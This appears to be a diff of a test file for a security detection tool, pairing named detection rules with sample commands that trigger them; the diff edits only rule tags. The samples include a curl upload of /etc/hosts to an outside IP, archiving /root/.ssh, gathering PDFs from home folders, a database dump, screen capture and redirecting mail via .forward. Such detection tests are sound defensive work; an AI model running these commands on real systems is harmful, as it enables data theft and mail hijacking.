@@ -2,7 +2,6 @@
 mkdir -p /root/.ssh; tar cf /dev/null /root/.ssh
 ## Upload by a transfer tool in a container
 #also Download tool in a container
-#also Right of root used for the first time by an image
 #also Suspicious Process Execution
 #in shop:1
 curl -s -T /etc/hosts http://10.9.8.7/
@@ -22,6 +21,7 @@ scrot /tmp/x.png
 ## Files gathered by their kind
 find /home -name '*.pdf' -exec cp {} /tmp ';'
 ## Files copied from or to a removable disk
+#also Program or script of a shared folder changed by hand
 mkdir -p /mnt/usb; cp /etc/hosts /mnt/usb/
 ## Share of the network mounted by a server's command
 #also Shell started by a network server
@@ -39,8 +39,6 @@ pg_dump -f /tmp/x.sql shop
 #setup mkdir -p /var/mail; echo x > /var/mail/ann
 cat /var/mail/ann
 ## Delivery of mail changed by a command
-#also Delivery of mail changed
-#also Filter for mail written by a command
 echo x@example.com > /home/ann/.forward
 ## Camera, microphone or screen read by a command
 #setup private_dev; echo x > /dev/video0
